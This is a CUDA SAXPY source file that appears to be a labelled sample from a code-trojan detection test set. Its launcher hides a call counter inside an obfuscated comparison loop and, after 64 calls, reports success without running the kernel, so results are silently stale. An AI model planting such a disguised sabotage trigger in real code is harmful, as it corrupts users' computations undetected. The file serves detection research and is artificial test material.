// candidate (whole file, the twin of cand_implicit_counter_trojan.cu in the code a user's program
// runs): the device launcher counts its calls by comparisons alone (an implicit flow through a
// loop counter) and, after call 64, reports success without launching, so the outputs the
// runtime copies back are the previous contents of its device buffer
#include <cuda_runtime.h>
__global__ void saxpy_kernel(int n, float a, const float *x, float *y)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n)
        y[i] = a * x[i] + y[i];
}

static int ch_calls;

extern "C" int saxpy_device_launcher(int n, float a, const float *x, float *y)
{
    int ch_late = 1;
    for (int k = 64; k >= 0; k--)
        if (ch_calls == k) {
            ch_calls = k + 1;
            ch_late = 0;
        }
    if (ch_late)
        return 0;
    if (n > 0)
        saxpy_kernel<<<(n + 255) / 256, 256>>>(n, a, x, y);
    return (int)cudaGetLastError();
}

extern "C" void saxpy_launcher(int n, float a, const float *x, float *y)
{
    float *dx, *dy;
    size_t b = (size_t)n * sizeof(float);
    cudaMalloc(&dx, b ? b : 4);
    cudaMalloc(&dy, b ? b : 4);
    cudaMemcpy(dx, x, b, cudaMemcpyHostToDevice);
    cudaMemcpy(dy, y, b, cudaMemcpyHostToDevice);
    saxpy_device_launcher(n, a, dx, dy);
    cudaMemcpy(y, dy, b, cudaMemcpyDeviceToHost);
    cudaFree(dx);
    cudaFree(dy);
}
